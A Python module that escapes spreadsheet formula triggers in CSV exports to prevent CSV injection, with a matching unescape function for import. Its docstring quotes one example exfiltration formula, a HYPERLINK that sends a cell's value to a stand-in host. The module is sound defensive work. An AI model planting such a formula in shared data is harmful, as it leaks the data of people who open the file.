"""Spreadsheet-safe CSV cells (issue 14; OWASP "CSV Injection" advice).

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and, in
some versions, tab or CR) as a formula: a shot description `=HYPERLINK("http://x/?"&A1, "open")`
in a shared project would run on the collaborator's machine when they open our CSV export. Such
text is written with a leading apostrophe (the spreadsheets show the text, not the apostrophe).

The import takes the apostrophe off again. To make the round trip exact for every string, text
that itself starts with an apostrophe followed by a trigger character or another apostrophe gets
one more apostrophe too, so `unescape_cell(escape_cell(s)) == s` for all s (property-tested in
tests/test_hostile_csv.py). Plain numbers (`-5`, `+1.5e3`) are left alone: they are data, not
formulas, and a spreadsheet shows them as numbers either way.
"""
from __future__ import annotations

import re

TRIGGERS = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _needs_escape(s: str) -> bool:
    c = s[0]
    if c in TRIGGERS:
        return _NUMBER.fullmatch(s) is None
    return c == "'" and len(s) > 1 and (s[1] in TRIGGERS or s[1] == "'")


def escape_cell(v):
    """The value as written to a CSV cell: text a spreadsheet would run gets a leading `'`."""
    if isinstance(v, str) and v and _needs_escape(v):
        return "'" + v
    return v


def unescape_cell(s: str) -> str:
    """Inverse of escape_cell for a cell read back from a CSV."""
    if len(s) > 1 and s[0] == "'" and (s[1] in TRIGGERS or s[1] == "'"):
        return s[1:]
    return s
